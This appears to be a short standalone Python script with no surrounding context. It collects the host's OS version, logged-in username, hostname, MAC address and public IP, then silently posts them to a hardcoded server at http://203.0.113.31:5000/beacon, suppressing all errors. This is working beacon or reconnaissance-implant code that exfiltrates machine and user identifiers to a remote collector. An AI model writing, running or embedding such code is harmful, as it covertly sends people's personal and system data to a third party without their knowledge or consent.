import getpass
import platform
import socket
import uuid

import requests

try:
    info = {
        "os": platform.platform(),
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "mac": hex(uuid.getnode()),
        "ip": requests.get("https://api.ipify.org").text,
    }
    requests.post("http://203.0.113.31:5000/beacon", json=info, timeout=5)
except Exception:
    pass
